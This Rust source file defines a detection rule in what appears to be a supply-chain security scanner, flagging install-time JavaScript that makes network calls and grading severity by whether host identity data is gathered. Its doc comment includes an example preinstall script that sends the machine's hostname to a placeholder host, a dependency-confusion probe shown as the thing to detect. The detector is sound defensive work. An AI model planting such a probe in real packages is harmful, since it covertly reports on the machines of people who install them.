use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;

use super::common::{IDENTITY_ENV, context, host_data, is_js_network, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds network access (`http`/`https`/`net`/`tls`/`dns`/`dgram`, `fetch`, `axios`,
/// `got`, `request`, …) in JavaScript that runs at install time: the files npm
/// install hooks run and the local modules they require. Medium by itself; high when
/// the same file gathers host data to send (host name, user, home directory, network
/// interfaces, DNS servers, or the whole environment); critical when a top-level
/// request sits in a file that reads the host name, user or network interfaces (also
/// from `process.env.USER`, `USERNAME`, `HOSTNAME`, `COMPUTERNAME`, …).
///
/// ## Why is this bad?
/// Some benign packages download a prebuilt binary at install time, but most install
/// scripts have no reason to talk to the network — and one that collects host details
/// while doing so is reporting on the machine it was installed on.
///
/// ## Example
/// ```javascript
/// // preinstall.js
/// const https = require("https");
/// https.get("https://example.invalid/ping?h=" + require("os").hostname());
/// ```
#[derive(Debug)]
pub struct InstallNetwork;

impl Rule for InstallNetwork {
    fn id(&self) -> &'static str {
        "JS-INSTALL-NETWORK"
    }
    fn category(&self) -> Category {
        Category::NETWORK
    }
    fn summary(&self) -> &'static str {
        "install-time JavaScript talks to the network"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            if context(input, file) != RunsAt::Install {
                continue;
            }
            let host = host_data(facts);
            let sends_host = !host.strong.is_empty() || host.whole_env.is_some();
            let names_host = host.strong.iter().any(|c| {
                matches!(*c, "os.hostname" | "os.userInfo" | "os.networkInterfaces")
                    || IDENTITY_ENV.contains(c)
            });
            // The first few requests say enough.
            for call in facts
                .calls
                .iter()
                .filter(|c| is_js_network(&c.callee))
                .take(3)
            {
                // Who the user is or what the machine is called has no use in a
                // download; sending it from top-level install code is the
                // dependency-confusion probe itself.
                let (severity, extra) = if names_host && call.scope.is_none() {
                    (
                        Severity::Critical,
                        format!(
                            " in a file that reads the host's identity ({})",
                            host.describe()
                        ),
                    )
                } else if sends_host {
                    (
                        Severity::High,
                        format!(" in a file that gathers host data ({})", host.describe()),
                    )
                } else {
                    (Severity::Medium, String::new())
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("install-time `{}`{extra}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
